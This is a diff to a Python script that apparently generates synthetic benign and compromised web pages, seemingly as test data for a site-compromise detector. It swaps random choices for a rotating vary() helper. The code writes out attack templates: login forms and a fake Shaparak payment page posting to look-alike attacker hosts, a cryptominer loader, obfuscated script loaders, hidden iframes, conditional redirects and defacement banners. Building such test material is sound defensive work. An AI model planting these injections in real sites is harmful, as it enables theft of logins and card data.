@@ -69,6 +69,16 @@ def rng(*parts):
     return random.Random(zlib.crc32(("%d:" % SEED + ":".join(map(str, parts))).encode()))
 
 
+# The index of the case within its class, set by main() before each maker
+# runs: vary() walks the variants of a family in turn, so every variant
+# appears once before any appears twice.
+CASE_INDEX = 0
+
+
+def vary(seq):
+    return seq[CASE_INDEX % len(seq)]
+
+
 def hexs(r, n):
     return "".join(r.choice("0123456789abcdef") for _ in range(n))
 
@@ -1454,7 +1464,7 @@ def b_news_hackers(site, r):
 
 def b_youtube(site, r):
     vid = alnum(r, 11)
-    host = r.choice(["www.youtube.com", "www.youtube-nocookie.com"])
+    host = vary(["www.youtube.com", "www.youtube-nocookie.com"])
     return dict(main=f'''<div class="video-embed"><h2>{site.t("video")}</h2>
 <iframe width="560" height="315" src="https://{host}/embed/{vid}?si={alnum(r, 16)}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe></div>
 '''), {}, []
@@ -1477,7 +1487,7 @@ def b_vimeo(site, r):
 
 def b_aparat(site, r):
     vh = alnum(r, 5).lower()
-    if r.random() < 0.5:
+    if vary([True, False]):
         snip = f'''<style>.h_iframe-aparat_embed_frame{{position:relative;}}.h_iframe-aparat_embed_frame .ratio{{display:block;width:100%;height:auto;}}.h_iframe-aparat_embed_frame iframe{{position:absolute;top:0;left:0;width:100%;height:100%;}}</style><div class="h_iframe-aparat_embed_frame"><span style="display: block;padding-top: 57%"></span><iframe src="https://www.aparat.com/video/video/embed/videohash/{vh}/vt/frame"  allowFullScreen="true" webkitallowfullscreen="true" mozallowfullscreen="true"></iframe></div>'''
     else:
         div = str(r.randrange(10**11, 10**12))
@@ -1785,7 +1795,7 @@ def b_cms_upgrade(site, r):
 def b_news_week_and_embed(site, r):
     """What a week brings at once: most news replaced and a video or map
     added to the page."""
-    mods, _, extra = r.choice([b_youtube, b_aparat if site.lang != "en" else b_vimeo, b_gmaps, b_osm])(site, r)
+    mods, _, extra = vary([b_youtube, b_aparat if site.lang != "en" else b_vimeo, b_gmaps, b_osm])(site, r)
     return mods, dict(news_off=r.choice([0, 1]), day=8, banner=2), extra
 
 
@@ -1804,7 +1814,7 @@ CDNJS_LIBS = ["Chart.js/4.4.1/chart.umd.min.js", "Swiper/11.0.5/swiper-bundle.mi
 def b_cdnjs_library(site, r):
     """A library the site never used, from cdnjs (a curated CDN: only
     published open-source libraries, no user uploads)."""
-    lib = r.choice(CDNJS_LIBS)
+    lib = vary(CDNJS_LIBS)
     return dict(end=f'<script src="https://cdnjs.cloudflare.com/ajax/libs/{lib}" integrity="sha512-{b64s(r, 64)}" crossorigin="anonymous" referrerpolicy="no-referrer"></script>\n'), {}, []
 
 
@@ -1820,7 +1830,7 @@ NOTICE = {
 
 def b_notice_top(site, r):
     """The site's own notice at the very top of the page, in its language."""
-    txt = r.choice(NOTICE["en" if site.lang == "en" else "fa"])
+    txt = vary(NOTICE["en" if site.lang == "en" else "fa"])
     return dict(top=f'''<div class="site-alert alert alert-warning text-center" role="alert" style="background:#fff3cd;color:#664d03;padding:10px;margin:0">
   {txt} <a href="/news" class="alert-link">{site.t("readmore")}</a>
 </div>
@@ -1873,7 +1883,7 @@ VERSES = ["بِسْمِ اللَّهِ الرَّحْمَٰنِ الرَّحِي
 def b_arabic_verse(site, r):
     """An Arabic verse or salutation at the top of a Persian page, for a
     religious occasion: another script and language, and benign."""
-    v = r.choice(VERSES)
+    v = vary(VERSES)
     return dict(top=f'<div class="occasion-verse" style="text-align:center;font-family:Amiri,serif;font-size:20px;padding:6px;background:#f6f1e7">{v}</div>\n'), {}, []
 
 
@@ -1895,7 +1905,7 @@ def b_spa_bundle(site, r):
 
 def b_own_subdomain(site, r):
     d = reg(site.host)
-    kind = r.choice(["cdn", "static", "stats", "files"])
+    kind = vary(["cdn", "static", "stats", "files"])
     if kind == "stats":
         return dict(end=f'<script async src="https://stats.{d}/js/script.js" data-domain="{site.host}"></script>\n'), {}, []
     if kind == "files":
@@ -2038,7 +2048,7 @@ def a_deface_full(lang, sig):
         style = r.choice(["background:#000;color:#0f0;font-family:monospace",
                           "background:#111 url(https://i.imgur.com/%s.gif) no-repeat center;color:#fff" % alnum(r, 7),
                           "background:black;color:white;font-family:Courier New"])
-        music = r.choice(["", f'<iframe width="0" height="0" src="https://www.youtube.com/embed/{alnum(r, 11)}?autoplay=1&loop=1" frameborder="0"></iframe>',
+        music = vary(["", f'<iframe width="0" height="0" src="https://www.youtube.com/embed/{alnum(r, 11)}?autoplay=1&loop=1" frameborder="0"></iframe>',
                           f'<audio src="https://files.catbox.moe/{alnum(r, 6).lower()}.mp3" autoplay loop></audio>'])
         html = f'''<!DOCTYPE html>
 <html dir="{d}"><head><meta charset="utf-8"><title>{title}</title>
@@ -2061,7 +2071,7 @@ def top_block(inner, r, style=None):
 
 
 def a_partial_sig(site, r):
-    lang = r.choice(["en", "fa", "tr", "id"])
+    lang = vary(["en", "fa", "tr", "id"])
     crew = r.choice(CREWS[lang])
     inner = {
         "en": f"<h1>Hacked by {crew}</h1><p>Admin, your security is poor. Patch your CMS.</p>",
@@ -2132,7 +2142,7 @@ def _overlay(site, r, sig):
         crew = r.choice(CREWS["en"] + CREWS["tr"])
         inner = f"<h1>Hacked by {crew}</h1><p>Your site is ours. Greetz to all.</p>"
     else:
-        lang = r.choice(["en", "ar", "tr"])
+        lang = vary(["en", "ar", "tr"])
         inner = NOSIG_FULL[lang][1]
     return dict(top=f'''<div id="{alnum(r, 6)}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#000;color:#fff;text-align:center;padding-top:10%">
 {inner}
@@ -2148,7 +2158,7 @@ def a_new_post(sig):
             crew = r.choice(CREWS["en"] + CREWS["id"] + CREWS["tr"])
             item = (f"Hacked by {crew}", f"Your site has been hacked by {crew}. Admin, patch your system. Greetz to all members.")
         else:
-            lang = r.choice(["en", "tr", "id", "ar", "ru"])
+            lang = vary(["en", "tr", "id", "ar", "ru"])
             title, body = NOSIG_FULL[lang]
             txt = body.split("<p>", 1)[1].split("</p>", 1)[0]
             item = (title, txt)
@@ -2168,7 +2178,7 @@ def a_japanese_seo(site, r):
 
 
 def a_title(site, r):
-    title = r.choice([f"Hacked By {r.choice(CREWS['en'])}", "Situs Slot Gacor Hari Ini Gampang Maxwin 2026",
+    title = vary([f"Hacked By {r.choice(CREWS['en'])}", "Situs Slot Gacor Hari Ini Gampang Maxwin 2026",
                       "خرید فالوور ارزان اینستاگرام", "سایت شرط بندی معتبر | بونوس ویژه", f"Owned by {handle(r)}",
                       "Viagra Online Kaufen Ohne Rezept", f"هک شد | {r.choice(CREWS['fa'])}"])
     return dict(title=title), {}, []
@@ -2224,7 +2234,7 @@ FOREIGN = ["cdn-analytics-stat.xyz", "jscdn.pw", "statcounter-cdn.top", "metrics
 def a_user_host(site, r):
     """A script from a host anyone can publish on: raw GitHub, a gist, a
     github.io page, a pastebin, a tunnel."""
-    u = r.choice([f"https://raw.githubusercontent.com/{handle(r)}/js/main/loader.js",
+    u = vary([f"https://raw.githubusercontent.com/{handle(r)}/js/main/loader.js",
                   f"https://gist.githubusercontent.com/{handle(r)}/{hexs(r, 32)}/raw/x.js",
                   f"https://{handle(r).replace('_', '-')}.github.io/cdn/jquery.min.js",
                   f"https://pastebin.com/raw/{alnum(r, 8)}",
@@ -2234,7 +2244,7 @@ def a_user_host(site, r):
 
 def a_unknown_host(site, r):
     """A script from an ordinary-looking host nobody on the site uses."""
-    h = r.choice(["cdn.statistic-counter.com", "js.webanalytics-pro.net", "api.jqueryui-cdn.org",
+    h = vary(["cdn.statistic-counter.com", "js.webanalytics-pro.net", "api.jqueryui-cdn.org",
                   "static.site-speedup.com", "cdn.widgetsplus.io"])
     return {r.choice(["head", "end"]): f'<script type="text/javascript" src="https://{h}/{r.choice(["track", "widget", "speed", "lib"])}.min.js?ver={r.randrange(1, 9)}.{r.randrange(0, 9)}"></script>\n'}, {}, []
 
@@ -2273,7 +2283,7 @@ def a_obf_hex(site, r):
 def a_obf_atob(site, r):
     u = _url(r)
     tag = f'<script src="{u}"></script>'
-    if r.random() < 0.5:
+    if vary([True, False]):
         js = f'document.write(atob("{base64.b64encode(tag.encode()).decode()}"));'
     else:
         js = f'var s=document.createElement("script");s.src=atob("{base64.b64encode(u.encode()).decode()}");document.body.appendChild(s);'
@@ -2288,7 +2298,7 @@ def a_obf_charcode(site, r):
 
 
 def a_miner(site, r):
-    k = r.randrange(4)
+    k = vary([0, 1, 2, 3])
     key = alnum(r, 32)
     if k == 0:
         s = f'''<script src="https://coinhive.com/lib/coinhive.min.js"></script>
@@ -2310,7 +2320,7 @@ def a_jsdelivr_gh(site, r):
     user = handle(r)
     repo = r.choice(["assets", "cdn", "js", "static", "jquery-plugins", "lib"])
     f = r.choice(["main.js", "jquery.min.js", "app.min.js", "x.js"])
-    if r.random() < 0.75:
+    if vary([True, True, False]):
         u = f"https://cdn.jsdelivr.net/gh/{user}/{repo}@{r.choice(['main', 'master', '1.0', 'latest'])}/{f}"
     else:
         u = f"https://cdn.jsdelivr.net/npm/{user.replace('_', '-')}-utils@1.0.{r.randrange(0, 9)}/dist/{f}"
@@ -2338,7 +2348,7 @@ def a_iframe_hidden(method):
             c = "c" + alnum(r, 5).lower()
             attrs = attrs.replace("{C}", c)
             pre = f"<style>.{c}{{display:none!important}}</style>\n"
-        src = r.choice([f"http://{h}/in.cgi?{r.randrange(2, 30)}", f"https://{h}/go.php?sid={r.randrange(100, 999)}",
+        src = vary([f"http://{h}/in.cgi?{r.randrange(2, 30)}", f"https://{h}/go.php?sid={r.randrange(100, 999)}",
                         f"//{h}/index.php"])
         return {r.choice(["end", "end", "main", "top"]): f'{pre}<iframe src="{src}" {attrs}></iframe>\n'}, {}, []
     return f
@@ -2384,7 +2394,7 @@ def a_seo_spam(method, lang):
 def a_form_hijack(site, r):
     own = reg(site.host)
     label = own.split(".")[0]
-    tgt = r.choice([f"https://{label}-login.verify-account.top/auth.php",
+    tgt = vary([f"https://{label}-login.verify-account.top/auth.php",
                     f"http://{r.choice([185, 91, 45])}.{r.randrange(1, 254)}.{r.randrange(1, 254)}.{r.randrange(2, 254)}/post.php",
                     f"https://secure-{label}.com/login/submit",
                     f"https://{r.choice(FOREIGN)}/collect.php"])
@@ -2394,7 +2404,7 @@ def a_form_hijack(site, r):
 def a_fake_gateway(site, r):
     """A payment form that posts to an imitation of a Shaparak gateway:
     card numbers and PINs collected by the attacker."""
-    host = r.choice(["sep-shaparak.ir.verify-pay.top", "shaparak-ir.com", "bpm.shaparak.ir-pay.xyz",
+    host = vary(["sep-shaparak.ir.verify-pay.top", "shaparak-ir.com", "bpm.shaparak.ir-pay.xyz",
                      "sep.shaparrak.ir", "ipg-shaparak.online"])
     t = site.t
     return dict(main=f'''<section class="payment"><h2>{t("pay")}</h2>
@@ -2424,21 +2434,21 @@ def a_redirect_meta(site, r):
 
 def a_redirect_js(site, r):
     h = r.choice(REDIR)
-    js = r.choice([f'window.location.href = "https://{h}/";', f"location.replace('https://{h}/?s={r.randrange(100)}');",
+    js = vary([f'window.location.href = "https://{h}/";', f"location.replace('https://{h}/?s={r.randrange(100)}');",
                    f'setTimeout(function(){{ top.location = "https://{h}/go"; }}, 1500);'])
     return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
 
 
 def a_redirect_referrer(site, r):
     h = r.choice(REDIR)
-    js = r.choice([f'if (document.referrer.indexOf("google") > -1 || document.referrer.indexOf("bing") > -1) {{ window.location.href = "https://{h}/?ref={reg(site.host)}"; }}',
+    js = vary([f'if (document.referrer.indexOf("google") > -1 || document.referrer.indexOf("bing") > -1) {{ window.location.href = "https://{h}/?ref={reg(site.host)}"; }}',
                    f'var r=document.referrer;if(/google|yahoo|bing|yandex/i.test(r)){{window.location.replace("https://{h}/");}}'])
     return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
 
 
 def a_redirect_mobile(site, r):
     h = r.choice(REDIR)
-    js = r.choice([f'if (/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(navigator.userAgent)) {{ window.location = "https://{h}/m/"; }}',
+    js = vary([f'if (/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(navigator.userAgent)) {{ window.location = "https://{h}/m/"; }}',
                    f'var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("mobile")!=-1||ua.indexOf("android")!=-1){{document.location.href="https://{h}/";}}'])
     return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
 
@@ -2446,7 +2456,7 @@ def a_redirect_mobile(site, r):
 def a_redirect_obf(site, r):
     h = r.choice(REDIR)
     u = f"https://{h}/"
-    k = r.randrange(3)
+    k = vary([0, 1, 2])
     if k == 0:
         js = f'eval(atob("{base64.b64encode(("window.location.href=" + repr(u) + ";").encode()).decode()}"));'
     elif k == 1:
@@ -2629,6 +2639,7 @@ def site_bases(site):
 
 
 def main():
+    global CASE_INDEX
     for kind in ("benign", "attack", "site"):
         shutil.rmtree(os.path.join(HERE, kind), ignore_errors=True)
     for site in SITES:
@@ -2652,6 +2663,7 @@ def main():
                     n += 1
                 names.add(name)
                 r = rng("case", kind, name)
+                CASE_INDEX = i + counts[kind][cls]
                 mods, okw, extra = maker(site, r)
                 if not okw and site.struct != "spa" and maker is not b_routine:
                     # the change rarely comes alone: on some checks the
